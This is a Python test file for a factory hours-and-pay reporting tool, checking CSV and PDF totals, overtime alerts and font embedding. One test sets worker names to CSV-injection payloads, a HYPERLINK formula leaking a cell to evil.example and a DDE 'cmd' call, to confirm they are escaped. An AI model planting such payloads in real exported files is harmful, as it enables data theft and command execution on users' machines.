"""Monthly reports per worker and per customer: totals in the CSV and in the PDF's extracted text."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from pypdf import PdfReader
from typer.testing import CliRunner

from seamline.compliance.alerts import alerts_for_day
from seamline.compliance.repository import load_chain
from seamline.compliance.service import seal
from seamline.entrypoints.cli import app

from .builders import FACTORY, Ev, at, make_layout

RATES = [{"op": "A", "per_piece": "0.50"}, {"per_sam_min": "0.40"}]  # B: 0.40 x 1.2 SAM = 0.48


def month_of_work() -> Ev:
    ev = Ev()
    # W1, Mon 2 March: 10 h (8 regular + 2 overtime from 17:00); 100 A for ACME, 40 A in overtime for BETA
    ev.shift("W1", "S1", "2026-03-02", "08:00", "19:00")
    ev.piece("S1", at("2026-03-02", "10:00"), op="A", qty=100, bundle="B1")
    ev.piece("S1", at("2026-03-02", "17:30"), op="A", qty=40, bundle="B2")
    # W1, Tue 3 March: 8 h, 60 A for ACME
    ev.shift("W1", "S1", "2026-03-03", "08:00", "17:00")
    ev.piece("S1", at("2026-03-03", "10:00"), op="A", qty=60, bundle="B1")
    # W2, Mon 2 March: 8 h, 30 B for ACME
    ev.shift("W2", "S2", "2026-03-02", "08:00", "17:00")
    ev.piece("S2", at("2026-03-02", "11:00"), op="B", qty=30, bundle="B1")
    return ev


@pytest.fixture()
def db(make_db, tmp_path: Path):  # type: ignore[no-untyped-def]
    url, engine = make_db(make_layout(), month_of_work().events)
    seal(engine, FACTORY, date(2026, 3, 3), now=datetime(2026, 3, 4, tzinfo=UTC))
    rates = tmp_path / "rates.json"
    rates.write_text(json.dumps(RATES))
    return url, engine, rates, tmp_path


def report(url: str, rates: Path, *args: str) -> str:
    lang = [] if "--lang" in args else ["--lang", "en"]  # the tests below read the English wording
    res = CliRunner().invoke(
        app,
        ["hours-report", "--db", url, "--factory", FACTORY, "--month", "2026-03", "--rates", str(rates), *lang, *args],
    )
    assert res.exit_code == 0, res.output
    return res.output


def pdf_text(path: Path) -> str:
    """The PDF's text with runs of whitespace (table cells come out one per line) folded to one space."""
    return " ".join(" ".join(p.extract_text() for p in PdfReader(path).pages).split())


def test_worker_pdf_carries_the_hand_computed_totals_and_chain_head(db) -> None:  # type: ignore[no-untyped-def]
    url, engine, rates, tmp = db
    out = tmp / "w1.pdf"
    report(url, rates, "--worker", "W1", "--region", "zhejiang_1", "--out", str(out))
    text = pdf_text(out)
    head = load_chain(engine, FACTORY)[-1].hash
    assert head in text
    # hours: 10 + 8 = 18 worked, 16 regular, 2 overtime; pieces 100 + 40 + 60
    assert "Total 18.00 16.00 2.00 200 0" in text
    # regular piece pay 160 x 0.50 = 80; overtime 40 x 0.50 x 1.5 = 30
    assert "Piece pay, regular hours 80.00" in text
    assert "Piece pay, overtime on workdays 30.00" in text
    # floor: 2490 x 16 / 174 = 228.9655...; top-up 148.9655...; gross 80 + 30 + 148.9655... = 258.97
    assert "Minimum wage for the regular hours 228.97" in text
    assert "Top-up to the minimum wage 148.97" in text
    assert "Gross pay 258.97" in text
    # per day: 100 x 0.50 + 40 x 0.50 x 1.5 = 80; 60 x 0.50 = 30
    assert "2026-03-02 workday 10.00 8.00 2.00 140 0 80.00 2026-03-03 workday 8.00 8.00 0.00 60 0 30.00" in text


def test_worker_pdf_in_chinese(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, rates, tmp = db
    out = tmp / "w1_zh.pdf"
    report(url, rates, "--worker", "W1", "--lang", "zh", "--out", str(out))
    text = pdf_text(out)
    assert "月度工时与工资报告" in text
    assert "应发工资 110.00" in text
    assert "合计" in text and "18.00" in text


def test_customer_csv_splits_hours_by_earned_minutes(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, rates, _tmp = db
    rows = list(csv.reader(io.StringIO(report(url, rates, "--customer", "ACME", "--format", "csv"))))
    table = {r[0]: r for r in rows if len(r) == 6 and r[0] in ("W1", "W2", "Total")}
    # W1 on 2 March: ACME 100 x 0.5 = 50 earned minutes, BETA 40 x 0.5 = 20 -> 5/7 of 10 h and of 2 h
    # overtime, plus all 8 h of 3 March: 15.142857 h, 1.428571 h overtime; pay 160 x 0.50 = 80
    assert table["W1"][2:] == ["15.14", "1.43", "160", "80.00"]
    assert table["W2"][2:] == ["8.00", "0.00", "30", "14.40"]  # 30 x 0.48
    assert table["Total"][2:] == ["23.14", "1.43", "190", "94.40"]
    beta = list(csv.reader(io.StringIO(report(url, rates, "--customer", "BETA", "--format", "csv"))))
    w1 = next(r for r in beta if len(r) == 6 and r[0] == "W1")
    assert w1[2:] == ["2.86", "0.57", "40", "30.00"]  # 2/7 of the day; 40 x 0.50 x 1.5


def test_customer_pdf_lists_orders_and_head(db) -> None:  # type: ignore[no-untyped-def]
    url, engine, rates, tmp = db
    out = tmp / "acme.pdf"
    report(url, rates, "--customer", "ACME", "--out", str(out), "--rules", "prc_labour_law,eti_base_code")
    text = pdf_text(out)
    assert "Orders O1" in text
    assert "Total 23.14 1.43 190 94.40" in text
    assert load_chain(engine, FACTORY)[-1].hash in text


def test_report_without_rates_has_hours_only(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, _rates, _tmp = db
    res = CliRunner().invoke(
        app,
        [
            "hours-report",
            "--db",
            url,
            "--factory",
            FACTORY,
            "--month",
            "2026-03",
            "--worker",
            "W2",
            "--format",
            "csv",
            "--lang",
            "en",
        ],
    )
    assert res.exit_code == 0, res.output
    assert "2026-03-02,workday,8.00,8.00,0.00,30,0,-" in res.output
    assert "no rate card given: pay not computed" in res.output


def test_alerts_show_findings_of_the_day(make_db) -> None:  # type: ignore[no-untyped-def]
    ev = Ev()
    ev.shift("W1", "S1", "2026-03-02", "08:00", "20:00")  # 11 h: 3 h overtime -> warning and notice
    url, _engine = make_db(make_layout(), ev.events)
    res = CliRunner().invoke(app, ["hours-alerts", "--db", url, "--factory", FACTORY, "--day", "2026-03-02"])
    assert res.exit_code == 0, res.output
    got = [json.loads(x) for x in res.output.splitlines()]
    assert {(a["worker"], a["rule"], a["severity"]) for a in got} == {
        ("W1", "prc_ot_day_normal", "notice"),
        ("W1", "prc_ot_day", "warning"),
    }
    warning = next(a for a in got if a["severity"] == "warning")
    assert warning["message_zh"] == "W1 2026-03-02: 3 h / 3 h - 日加班不得超过3小时"
    assert warning["message_en"] == "W1 2026-03-02: 3 h / 3 h - overtime may not exceed 3 h in a day"
    # the next day has no findings
    res = CliRunner().invoke(app, ["hours-alerts", "--db", url, "--factory", FACTORY, "--day", "2026-03-03"])
    assert res.exit_code == 0 and res.output == ""
    assert alerts_for_day([], date(2026, 3, 2)) == []


def test_customer_rules_from_the_config_apply_to_its_report(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, rates, tmp = db
    cfg = tmp / "rules.json"
    cfg.write_text(
        json.dumps(
            {
                "default": ["prc_labour_law"],
                "customers": {"ACME": ["strict"]},
                "rulesets": {
                    "strict": {
                        "name_en": "ACME code",
                        "regular": {"week_h": 48},
                        "limits": [{"id": "acme_ot_day", "metric": "overtime_h", "period": "day", "max": 1.5}],
                    }
                },
            }
        )
    )
    acme = report(url, rates, "--customer", "ACME", "--format", "csv", "--rules-config", str(cfg))
    assert "PRC Labour Law + ACME code" in acme
    # W1's 2 h of overtime on 2 March breaks ACME's 1.5 h daily cap
    assert "W1,violation,acme_ot_day,2026-03-02,2026-03-02,2,1.5" in acme
    beta = report(url, rates, "--customer", "BETA", "--format", "csv", "--rules-config", str(cfg))
    assert "acme_ot_day" not in beta


def test_a_missing_rate_is_a_clear_error(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, _rates, tmp = db
    only_a = tmp / "only_a.json"
    only_a.write_text(json.dumps([{"op": "A", "per_piece": "0.50"}]))
    res = CliRunner().invoke(
        app,
        [
            "hours-report",
            "--db",
            url,
            "--factory",
            FACTORY,
            "--month",
            "2026-03",
            "--worker",
            "W2",
            "--rates",
            str(only_a),
            "--format",
            "csv",
        ],
    )
    assert res.exit_code == 2
    assert "no rate for op B (style T1)" in res.output


def test_an_unknown_floor_basis_is_refused_not_read_as_monthly(db) -> None:  # type: ignore[no-untyped-def]
    url, _engine, rates, tmp = db
    out = tmp / "r.csv"
    res = CliRunner().invoke(
        app,
        [
            "hours-report",
            "--db",
            url,
            "--factory",
            FACTORY,
            "--month",
            "2026-03",
            "--worker",
            "W1",
            "--rates",
            str(rates),
            "--format",
            "csv",
            "--out",
            str(out),
            "--floor-basis",
            "hourlyy",
        ],
    )
    assert res.exit_code == 2, res.output
    said = " ".join(res.output.replace("│", " ").split())  # the error box wraps the message
    assert "--floor-basis is monthly or hourly, not 'hourlyy'" in said, said
    assert not out.exists()


def test_live_alerts_project_open_sessions_to_the_shift_end() -> None:
    from seamline.compliance.alerts import live_alerts
    from seamline.compliance.pipeline import Facts
    from seamline.compliance.rules import load_ruleset

    ev = Ev()
    # Saturday 7 March after a Mon-Fri of 8 h: 40 h so far; at 10:00 W1 is still logged in
    for day in ("02", "03", "04", "05", "06"):
        ev.shift("W1", "S1", f"2026-03-{day}", "08:00", "17:00")
    ev.login("W1", "S1", at("2026-03-07", "08:00"))
    facts = Facts(make_layout(), ev.events)
    got = live_alerts(facts, load_ruleset("prc_labour_law"), date(2026, 3, 7), now=at("2026-03-07", "10:00"))
    # now: 2 h on Saturday, all regular (4 h of the 44 h week left) -> nothing yet;
    # by 17:00: 8 h, 4 regular + 4 overtime -> over the 3 h daily cap, and over the 1 h notice
    assert {(a["rule"], a["severity"], a["projected"], a["value"]) for a in got} == {
        ("prc_ot_day", "violation", True, 4.0),
        ("prc_ot_day_normal", "notice", True, 4.0),
    }
    # a past day has nothing to project
    assert live_alerts(facts, load_ruleset("prc_labour_law"), date(2026, 3, 6)) == []


@pytest.mark.slow
def test_report_csv_cells_never_run_as_formulas(make_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Issue #18 item 6, through the installed executable: a worker named like a formula is written
    with a leading quote; the figures stay numbers."""
    import dataclasses
    import subprocess
    import sys

    from seamline.adapters.csv_cells import TRIGGERS

    lay = make_layout()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    lay.workers["W1"] = dataclasses.replace(lay.workers["W1"], name=evil)
    lay.workers["W2"] = dataclasses.replace(lay.workers["W2"], name="+cmd|' /C calc'!A0")
    url, engine = make_db(lay, month_of_work().events)
    seal(engine, FACTORY, date(2026, 3, 3), now=datetime(2026, 3, 4, tzinfo=UTC))
    rates = tmp_path / "rates.json"
    rates.write_text(json.dumps(RATES))
    exe = str(Path(sys.executable).parent / "seamline")
    out = {}
    for who in ("--customer", "ACME"), ("--worker", "W1"):
        r = subprocess.run(
            [
                exe,
                "hours-report",
                "--db",
                url,
                "--factory",
                FACTORY,
                "--month",
                "2026-03",
                "--rates",
                str(rates),
                "--format",
                "csv",
                *who,
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert r.returncode == 0, r.stderr
        out[who[0]] = list(csv.reader(io.StringIO(r.stdout)))
        cells = [c for row in out[who[0]] for c in row]
        assert any(evil in c for c in cells)
        for c in cells:
            if c.startswith(TRIGGERS) and c not in ("-", "+"):
                float(c)  # only plain numbers may start with = + - @
    by_worker = {row[0]: row for row in out["--customer"] if len(row) == 6}
    assert by_worker["W1"][1] == "'" + evil and by_worker["W1"][2:] == ["15.14", "1.43", "160", "80.00"]
    assert by_worker["W2"][1] == "'+cmd|' /C calc'!A0"


# --- every PDF carries its font; Chinese is the default; an unsealed chain says so ----------------
def _pdf(url: str, rates: Path, tmp: Path, name: str, *args: str) -> bytes:
    out = tmp / name
    res = CliRunner().invoke(
        app,
        [
            "hours-report",
            "--db",
            url,
            "--factory",
            FACTORY,
            "--month",
            "2026-03",
            "--rates",
            str(rates),
            "--out",
            str(out),
            *args,
        ],
    )
    assert res.exit_code == 0, res.output
    return out.read_bytes()


def test_report_pdfs_embed_every_font_and_default_to_chinese(db) -> None:  # type: ignore[no-untyped-def]
    from tests.pdf_checks import assert_all_fonts_embedded, text

    url, engine, rates, tmp = db
    default = _pdf(url, rates, tmp, "w1_default.pdf", "--worker", "W1")
    customer_zh = _pdf(url, rates, tmp, "acme_zh.pdf", "--customer", "ACME", "--lang", "zh_CN")
    english = _pdf(url, rates, tmp, "w1_en.pdf", "--worker", "W1", "--lang", "en")
    for pdf in (default, customer_zh, english):
        assert_all_fonts_embedded(pdf)
    zh = text(default)
    for heading in ("月度工时与工资报告 - 员工", "工时", "加班工时", "应发工资", "合规提示", "哈希链头"):
        assert heading in zh, heading
    assert "合计 18.00 16.00 2.00 200 0" in zh  # numbers drawn in the same embedded font
    assert load_chain(engine, FACTORY)[-1].hash in zh
    assert "月度工时与工资报告 - 客户" in text(customer_zh) and "订单 O1" in text(customer_zh)
    assert "Monthly hours and pay - worker" in text(english) and "月度" not in text(english)


def test_an_unsealed_month_says_not_sealed_instead_of_zeros(make_db, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    from tests.pdf_checks import text

    url, _engine = make_db(make_layout(), month_of_work().events)  # nothing sealed
    rates = tmp_path / "rates.json"
    rates.write_text(json.dumps(RATES))
    pdf_text = text(_pdf(url, rates, tmp_path, "unsealed.pdf", "--worker", "W1"))
    assert "哈希链头: 未封存 / not sealed" in pdf_text and "0" * 64 not in pdf_text
    res = CliRunner().invoke(
        app,
        [
            "hours-report",
            "--db",
            url,
            "--factory",
            FACTORY,
            "--month",
            "2026-03",
            "--worker",
            "W1",
            "--format",
            "csv",
            "--lang",
            "en",
        ],
    )
    assert res.exit_code == 0, res.output
    assert "Hash-chain head,未封存 / not sealed" in res.output and "0" * 64 not in res.output


REFERENCE = Path(__file__).parent / "reference" / "hours-report-w1-zh-p1.png"


def test_the_chinese_hours_report_renders_like_its_reference_image(db) -> None:  # type: ignore[no-untyped-def]
    """The report a viewer shows, drawn by poppler, against a reviewed image of it: the Chinese report
    once rendered blank on a viewer without the font (numbers included). A blank page, a missing
    glyph run or a layout that moved differ by far more than the chain head and the printing time
    do. SEAMLINE_UPDATE_REFERENCE=1 writes a new reference (review it before committing)."""
    import os

    from PIL import Image

    from tests.pdf_checks import differs_from, ink_share, render_page

    url, _engine, rates, tmp = db
    page = render_page(_pdf(url, rates, tmp, "w1_ref.pdf", "--worker", "W1", "--lang", "zh_CN"))
    assert ink_share(page) > 0.005, "the page is drawn blank"
    if os.environ.get("SEAMLINE_UPDATE_REFERENCE") == "1":
        REFERENCE.parent.mkdir(exist_ok=True)
        page.save(REFERENCE)
    with Image.open(REFERENCE) as ref:
        reference = ref.convert("L")
    assert ink_share(reference) > 0.005
    blank = differs_from(Image.new("L", page.size, 255), reference)  # how far a blank page is
    assert differs_from(page, reference) < 0.2 * blank
